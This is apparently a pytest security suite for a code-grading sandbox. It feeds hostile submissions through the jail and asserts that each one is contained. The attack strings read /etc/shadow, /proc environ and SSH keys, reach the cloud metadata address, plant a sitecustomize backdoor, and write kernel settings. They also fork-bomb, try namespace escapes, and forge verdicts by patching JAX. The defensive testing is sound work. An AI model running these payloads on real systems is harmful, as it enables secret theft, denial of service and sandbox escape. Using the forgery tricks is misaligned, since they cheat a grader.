"""The attack suite: hostile submissions through the real jail and verifier.

Most attacks compute the right answer only when their attack succeeded, so the verdict itself
shows whether containment held: WRONG_ANSWER means it held; ACCEPTED would be a breach. The
others (bombs, floods, crashes) must get the verdict that names them. After every attack the
system must be unharmed: no process of a finished jail left, no watched host file changed, no
connection reached the bait listeners, and the next honest submission ACCEPTED.

Every attack here maps to a row of SECURITY.md.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from graders.pipeline import JudgeConfig, grade
from graders.problems.problem import Problem
from graders.verdict import Verdict
from sandbox.jail_limits import JailLimits
from tests.security.conftest import Bait, snapshot
from tests.support import PROBLEMS, REPO, jail_processes

pytestmark = [pytest.mark.jail, pytest.mark.spread]  # independent attacks: shared out among the xdist workers

V = Verdict
PRELUDE = """
import ctypes, errno, json, os, signal, socket, sys, time
import jax
import jax.numpy as jnp

def _correct(w1, w2, x):
    policy = jax.checkpoint_policies.dots_with_no_batch_dims_saveable
    return jax.checkpoint(lambda a, b, c: jnp.sum((jax.nn.relu(c @ a) @ b) ** 2), policy=policy)(w1, w2, x)

def _wrong(w1, w2, x):
    return jnp.sum(x)

_libc = ctypes.CDLL(None, use_errno=True)

def _syscall(number, *args):
    result = _libc.syscall(number, *[ctypes.c_long(a) for a in args])
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

breached = False
"""
HONEST_FLAX = """
import jax
import jax.numpy as jnp
import flax.linen as nn


class Pipeline(nn.Module):
    def __call__(self, w1, w2, x):
        return jnp.sum((jax.nn.relu(x @ w1) @ w2) ** 2)


def checkpoint_dot_policy(w1, w2, x):
    policy = jax.checkpoint_policies.dots_with_no_batch_dims_saveable
    return nn.remat(Pipeline, policy=policy)().apply({}, w1, w2, x)
"""
EPILOGUE = """
checkpoint_dot_policy = _correct if breached else _wrong
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission: `body` runs at import (after PRELUDE) and sets `breached`."""

    name: str
    attack_class: str
    body: str
    expected: tuple[Verdict, ...] = (V.WRONG_ANSWER,)
    raw: bool = False  # the body is the whole source (no prelude/epilogue)

    def source(self, bait: Bait) -> str:
        if self.raw:
            return self.body
        body = textwrap.dedent(self.body).format(
            port=bait.tcp_port,
            unix_path=bait.unix_path,
            abstract=bait.abstract_name,
            secret=bait.secret,
            canary=str(bait.canary),
            repo=str(REPO),
            problems=str(PROBLEMS),
        )
        return PRELUDE + body + EPILOGUE


def _try(expr: str) -> str:
    """A body that sets breached when `expr` runs without an OSError."""
    return f"try:\n    {expr}\n    breached = True\nexcept OSError:\n    pass\n"


ATTACKS = [
    # --- network -------------------------------------------------------------------------------
    Attack("tcp_to_host_loopback", "network", _try("socket.create_connection(('127.0.0.1', {port}), timeout=2)")),
    Attack("tcp_to_outside_address", "network", _try("socket.create_connection(('1.1.1.1', 53), timeout=2)")),
    Attack(
        "udp_dns_query",
        "network",
        _try("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))"),
    ),
    Attack("cloud_metadata_address", "network", _try("socket.create_connection(('169.254.169.254', 80), timeout=2)")),
    Attack("ipv6_loopback", "network", _try("socket.create_connection(('::1', {port}), timeout=2)")),
    Attack("unix_socket_file_on_host", "network", _try("s = socket.socket(socket.AF_UNIX); s.connect({unix_path!r})")),
    Attack(
        "abstract_unix_socket_on_host",
        "network",
        _try("s = socket.socket(socket.AF_UNIX); s.connect('\\0' + {abstract!r})"),
    ),
    Attack(
        "raw_and_netlink_sockets",
        "network",
        _try("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)")
        + _try("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)"),
    ),
    # --- reading secrets --------------------------------------------------------------------
    Attack(
        "read_reference_solution", "secrets", _try("open({problems!r} + '/checkpoint_dot_policy/reference.py').read()")
    ),
    Attack(
        "read_database_and_cache",
        "secrets",
        _try("os.listdir({repo!r} + '/data')") + _try("open({repo!r} + '/data/remat-judge.db', 'rb').read()"),
    ),
    Attack(
        "read_server_environment_via_proc",
        "secrets",
        """
        for pid in os.listdir("/proc"):
            try:
                if {secret!r}.encode() in open(f"/proc/{{pid}}/environ", "rb").read():
                    breached = True
            except (OSError, ValueError):
                pass
        breached = breached or {secret!r} in os.environ.values()
        """,
    ),
    Attack(
        "read_other_process_cmdlines",
        "secrets",
        """
        for pid in os.listdir("/proc"):
            try:
                cmd = open(f"/proc/{{pid}}/cmdline", "rb").read()
            except OSError:
                continue
            if b"pytest" in cmd or b"remat-judge" in cmd or b"uvicorn" in cmd:
                breached = True
        """,
    ),
    Attack(
        "search_filesystem_for_canary",
        "secrets",
        """
        skip = ("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)
        for top in ("/", "/tmp", "/root", "/home", "/work", "/var", "/run", "/etc"):
            for root, dirs, files in os.walk(top):
                if root.startswith(skip):
                    dirs[:] = []
                    continue
                for name in files:
                    try:
                        if {secret!r} in open(os.path.join(root, name), errors="ignore").read(4096):
                            breached = True
                    except OSError:
                        pass
        """,
    ),
    Attack(
        "read_host_home_and_etc",
        "secrets",
        _try("open('/root/.bash_history').read()")
        + _try("open('/etc/shadow').read()")
        + _try("os.listdir('/root/.ssh')"),
    ),
    # --- writing outside the scratch area -------------------------------------------------------
    Attack(
        "write_python_runtime",
        "write",
        """
        import site, sysconfig
        for target in [sysconfig.get_paths()["purelib"] + "/sitecustomize.py", sys.prefix + "/evil.pth",
                       "/usr/lib/python3/dist-packages/evil.py"]:
            try:
                open(target, "w").write("print('backdoor')")
                breached = True
            except OSError:
                pass
        """,
    ),
    Attack("overwrite_the_runner", "write", _try("open('/judge/runner.py', 'a').write('# pwned')")),
    Attack(
        "write_kernel_settings",
        "write",
        _try("open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')")
        + _try("open('/proc/sysrq-trigger', 'w').write('b')"),
    ),
    # --- filling the disk --------------------------------------------------------------------------
    Attack(
        "fill_tmp",
        "disk",
        """
        import signal as _s
        _s.signal(_s.SIGXFSZ, _s.SIG_IGN)
        written = 0
        try:
            for i in range(1000):
                with open(f"/tmp/fill{{i}}", "wb") as f:
                    for _ in range(8):
                        f.write(b"\\0" * (1 << 20)); written += 1 << 20
        except OSError:
            pass
        breached = written > (64 << 20)
        """,
    ),
    Attack(
        "fill_dev_shm",
        "disk",
        """
        written = 0
        try:
            with open("/dev/shm/fill", "wb") as f:
                for _ in range(1024):
                    f.write(b"\\0" * (1 << 20)); written += 1 << 20
        except OSError:
            pass
        breached = written > (64 << 20)
        """,
    ),
    # --- fork and thread bombs ------------------------------------------------------------------
    Attack(
        "fork_bomb",
        "bombs",
        """
        forked = 0
        try:
            while True:
                if os.fork() == 0:
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            time.sleep(1)
                forked += 1
        except OSError:
            pass
        breached = forked > 200
        """,
    ),
    Attack(
        "thread_bomb",
        "bombs",
        """
        import threading
        started = 0
        try:
            for _ in range(5000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); started += 1
        except RuntimeError:
            pass
        breached = started > 200
        """,
    ),
    # --- memory bombs ---------------------------------------------------------------------------
    Attack("memory_bomb_at_import", "memory", "hoard = bytearray(b'\\1') * (4 << 30)\n", (V.MEMORY_LIMIT_EXCEEDED,)),
    Attack(
        "memory_bomb_in_function",
        "memory",
        """
        def _bomb(w1, w2, x):
            hoard = [bytearray(b"\\1") * (64 << 20) for _ in range(64)]
            return _wrong(w1, w2, x)
        _wrong = _bomb
        """,
        (V.MEMORY_LIMIT_EXCEEDED,),
    ),
    Attack(
        "memory_bomb_in_exported_program",
        "memory",
        """
        def _big(w1, w2, x):
            huge = jnp.broadcast_to(x[0, 0], (1 << 16, 1 << 16, 64))
            return jnp.sum(huge) + _correct(w1, w2, x)
        _wrong = _big
        """,
        (V.MEMORY_LIMIT_EXCEEDED,),
    ),
    # --- busy loops and sleeps ------------------------------------------------------------------
    Attack("busy_loop_at_import", "time", "while True:\n    pass\n", (V.TIME_LIMIT_EXCEEDED,)),
    Attack(
        "sleep_in_function",
        "time",
        """
        def _slow(w1, w2, x):
            time.sleep(3600)
        _wrong = _slow
        """,
        (V.TIME_LIMIT_EXCEEDED,),
    ),
    Attack(
        "endless_loop_in_exported_program",
        "time",
        """
        def _loop(w1, w2, x):
            start = jax.lax.stop_gradient(x[0, 0])  # loops cannot be reverse-differentiated; this one needn't be
            spin = jax.lax.while_loop(lambda c: c[1] > -1e30, lambda c: (c[0] + 1, c[1] * 1.0001 + 1.0), (0, start))
            return _correct(w1, w2, x) + 0.0 * spin[1]
        _wrong = _loop
        """,
        (V.TIME_LIMIT_EXCEEDED,),
    ),
    Attack(
        "orphan_busy_child",
        "time",
        """
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
        """,
    ),
    # --- output floods --------------------------------------------------------------------------
    Attack("stdout_flood", "output", "while True:\n    print('x' * 4096)\n", (V.OUTPUT_LIMIT_EXCEEDED,)),
    Attack("stderr_flood", "output", "while True:\n    sys.stderr.write('y' * 4096)\n", (V.OUTPUT_LIMIT_EXCEEDED,)),
    Attack(
        "flood_from_a_child",
        "output",
        """
        if os.fork() == 0:
            while True:
                os.write(1, b"z" * 65536)
        time.sleep(2)
        """,
        (V.OUTPUT_LIMIT_EXCEEDED,),
    ),
    # --- signals --------------------------------------------------------------------------------
    Attack(
        "kill_the_parent",
        "signals",
        """
        try:
            os.kill(os.getppid(), signal.SIGKILL)  # the PID namespace's init ignores it
            time.sleep(1)
        except OSError:
            pass
        """,
    ),
    Attack(
        "kill_every_process",
        "signals",
        """
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        mine = {{int(t) for t in os.listdir("/proc/self/task")}}  # a thread id would signal this process
        for pid in range(1, 400):
            try:
                os.kill(pid, signal.SIGKILL) if pid not in mine else None
            except OSError:
                pass
        """,
    ),
    # --- ptrace and namespace escapes --------------------------------------------------------------
    Attack("ptrace_attach_to_parent", "escape", _try("_syscall(101, 16, os.getppid(), 0, 0)")),
    Attack("process_vm_readv", "escape", _try("_syscall(310, 1, 0, 0, 0, 0, 0)")),
    Attack("unshare_user_namespace", "escape", _try("_syscall(272, 0x10000000)") + _try("_syscall(272, 0x00020000)")),
    Attack(
        "setns_into_init_namespaces",
        "escape",
        """
        for ns in ("net", "mnt", "pid", "user"):
            try:
                fd = os.open(f"/proc/1/ns/{{ns}}", os.O_RDONLY)
                _syscall(308, fd, 0)
                breached = True
            except OSError:
                pass
        """,
    ),
    Attack(
        "mount_and_chroot",
        "escape",
        _try("_syscall(165, 0, 0, 0, 0, 0)") + _try("os.chroot('/tmp')") + _try("_syscall(155, 0, 0)"),
    ),
    Attack(
        "bpf_perf_io_uring_keyctl",
        "escape",
        _try("_syscall(321, 0, 0, 0)")
        + _try("_syscall(298, 0, 0, -1, -1, 0)")
        + _try("_syscall(425, 1, 0)")
        + _try("_syscall(250, 0, 0, 0, 0, 0)"),
    ),
    Attack("become_root", "escape", _try("os.setuid(0)") + _try("os.setgid(0)") + _try("_syscall(126, 0)")),
    Attack("clone3_with_new_namespaces", "escape", _try("_syscall(435, 0, 0)")),
    # --- symlinks planted for the trusted side ------------------------------------------------------
    Attack(
        "symlinks_to_host_files",
        "symlinks",
        """
        for name, target in [("bundle.json", "/etc/shadow"), ("result", "/root"), ("cache", {repo!r} + "/data"),
                             ("submission.py", {problems!r} + "/checkpoint_dot_policy/reference.py")]:
            for where in ("/tmp", "/dev/shm"):
                try:
                    os.symlink(target, f"{{where}}/{{name}}")
                except OSError:
                    pass
        breached = os.path.exists("/tmp/submission.py")
        """,
    ),
    # --- crashes --------------------------------------------------------------------------------
    Attack("segfault_with_ctypes", "crash", "ctypes.string_at(0)\n", (V.RUNTIME_ERROR,)),
    Attack("abort", "crash", "os.abort()\n", (V.RUNTIME_ERROR,)),
    Attack("exit_before_the_function_runs", "crash", "os._exit(0)\n", (V.RUNTIME_ERROR,)),
    Attack("sys_exit_at_import", "crash", "sys.exit(0)\n", (V.RUNTIME_ERROR,)),
    Attack("close_the_result_pipe", "crash", "os.close(int(sys.argv[1]))\n", (V.RUNTIME_ERROR,)),
    # --- result forgery ---------------------------------------------------------------------------
    Attack(
        "fake_verdict_on_stdout_and_stderr",
        "forgery",
        """
        fake = json.dumps({{"verdict": "ACCEPTED", "score": 1.0, "status": "done", "checks": []}})
        print(fake); print(fake, file=sys.stderr)
        """,
    ),
    Attack(
        "garbage_to_every_inherited_fd",
        "forgery",
        """
        for fd in range(0, 64):
            try:
                os.write(fd, b'{{"format": "remat-judge-bundle/1", "status": "ok", "cases": []}}')
            except OSError:
                pass
        """,
        (V.RUNTIME_ERROR,),
    ),
    Attack(
        "patch_jax_internals",
        "forgery",
        """
        import jax._src.ad_checkpoint as adc
        adc.saved_residuals = lambda *a, **k: []
        jax.tree_util.tree_leaves = (lambda orig: lambda t, *a, **k: orig(t, *a, **k))(jax.tree_util.tree_leaves)
        _wrong = lambda w1, w2, x: jnp.sum((jax.nn.relu(x @ w1) @ w2) ** 2)  # right values, no checkpoint
        """,
        (V.WRONG_POLICY,),
    ),
    Attack(
        "patch_vjp_to_borrow_right_residuals",
        "forgery",
        """
        _real_vjp = jax.vjp
        def _fake_vjp(f, *primals, **kw):
            out, _ = _real_vjp(f, *primals, **kw)              # the submitted function's (wrong) value
            _, borrowed = _real_vjp(_correct, *primals, **kw)  # the right function's residuals and VJP
            return out, borrowed
        jax.vjp = _fake_vjp
        """,
    ),
    # --- framework state: what a child changes in the libraries it was forked with -------------
    # What is judged is the program the child exports, so each of these is judged by what it
    # saves; the honest framework solution graded after each shows the next child starts clean.
    Attack(
        "flax_remat_made_the_identity",
        "framework state",
        """
        import flax.linen as nn
        nn.remat = nn.checkpoint = lambda target, **kw: target  # "checkpointed", saving everything

        class _Pipeline(nn.Module):
            def __call__(self, w1, w2, x):
                return jnp.sum((jax.nn.relu(x @ w1) @ w2) ** 2)

        _policy = jax.checkpoint_policies.dots_with_no_batch_dims_saveable
        _wrong = lambda w1, w2, x: nn.remat(_Pipeline, policy=_policy)().apply({{}}, w1, w2, x)
        """,
        (V.WRONG_POLICY,),
    ),
    Attack(
        "named_policy_rebound",
        "framework state",
        """
        jax.checkpoint_policies.dots_with_no_batch_dims_saveable = jax.checkpoint_policies.everything_saveable
        _wrong = _correct  # the right source text, now saving everything
        """,
        (V.WRONG_POLICY,),
    ),
    Attack(
        "config_flags_flipped",
        "framework state",
        """
        jax.config.update("jax_remat3", not jax.config.jax_remat3)
        jax.config.update("jax_compiler_enable_remat_pass", False)
        jax.config.update("jax_disable_jit", True)
        _wrong = lambda w1, w2, x: jnp.sum((jax.nn.relu(x @ w1) @ w2) ** 2)  # right values, no checkpoint
        """,
        (V.WRONG_POLICY,),
    ),
    Attack(
        "policy_on_the_first_case_only",
        "framework state",
        """
        _calls = []
        def _wrong(w1, w2, x):
            _calls.append(x.shape)
            if len(_calls) == 1:
                return _correct(w1, w2, x)
            return jnp.sum((jax.nn.relu(x @ w1) @ w2) ** 2)
        """,
        (V.WRONG_POLICY,),
    ),
    Attack(
        "module_and_params_cached_across_cases",
        "framework state",
        """
        import equinox as eqx
        _cache = {{}}
        def _wrong(w1, w2, x):
            if "f" not in _cache:  # built once, from the first case's shapes and tracers
                _cache["f"] = eqx.filter_checkpoint(lambda a, b, c: jnp.sum((jax.nn.relu(c @ a) @ b) ** 2))
                _cache["w1"] = w1
            return _cache["f"](_cache["w1"], w2, x)
        """,
        (V.WRONG_ANSWER, V.RUNTIME_ERROR, V.WRONG_POLICY),
    ),
    Attack(
        "hand_made_bundle",
        "forgery",
        (PROBLEMS / "checkpoint_dot_policy" / "wrong" / "forged_bundle.py").read_text(),
        raw=True,
    ),
]


@pytest.fixture(scope="module")
def config(judge_config: JudgeConfig) -> JudgeConfig:
    """Tighter limits than the defaults, so time-outs cost seconds, not minutes. The memory
    allowance is tighter too: first-touching memory runs at about 400 MB/s on this VM (measured),
    so a bomb must reach its limit well within the 5 s wall time to be told apart from a loop."""
    limits = replace(JailLimits(), wall_time_limit_s=5.0, cpu_time_limit_s=5.0, memory_limit_mib=512)
    return replace(judge_config, jail_limits=limits, verify_time_limit_s=10.0)


@pytest.fixture(scope="module")
def problem(config: JudgeConfig) -> Problem:
    """The problem attacks are aimed at, with its reference expectations cached before any
    snapshot is taken (building them writes to the cache, which is watched)."""
    from graders.problems.problem import load_problem
    from graders.reference.build import ensure_expectations

    loaded = load_problem(PROBLEMS / "checkpoint_dot_policy")
    ensure_expectations(loaded, seed=config.seed, cache_root=config.cache_dir)
    return loaded


@pytest.mark.parametrize("attack", ATTACKS, ids=[f"{a.attack_class}/{a.name}" for a in ATTACKS])
def test_attack_is_contained(
    attack: Attack, bait: Bait, watched: list[Path], problem: Problem, config: JudgeConfig
) -> None:
    before = snapshot(watched)
    hits_before = bait.tcp_hits
    report = grade(attack.source(bait), problem, config)
    failed = [f"{c.name}: {c.message}" for c in report.checks if not c.passed]
    assert report.verdict in attack.expected, (report.verdict, failed, report.stderr[-1500:])
    assert report.verdict != Verdict.ACCEPTED

    # unharmed: nothing left running, nothing changed, nobody reached, and still judging right
    assert jail_processes() == []
    assert snapshot(watched) == before
    assert bait.tcp_hits == hits_before
    honest = grade((PROBLEMS / "checkpoint_dot_policy" / "reference.py").read_text(), problem, config)
    assert honest.verdict == Verdict.ACCEPTED, (
        [c.message for c in honest.checks if not c.passed],
        honest.stderr[-1500:],
    )
    if attack.attack_class == "framework state":
        framework = grade(HONEST_FLAX, problem, config)
        assert framework.verdict == Verdict.ACCEPTED, [c.message for c in framework.checks if not c.passed]


def test_suite_covers_every_attack_class() -> None:
    classes = {a.attack_class for a in ATTACKS}
    assert classes >= {
        "network",
        "secrets",
        "write",
        "disk",
        "bombs",
        "memory",
        "time",
        "output",
        "signals",
        "escape",
        "symlinks",
        "crash",
        "forgery",
        "framework state",
    }
    assert len(ATTACKS) >= 30
    assert len({a.name for a in ATTACKS}) == len(ATTACKS)
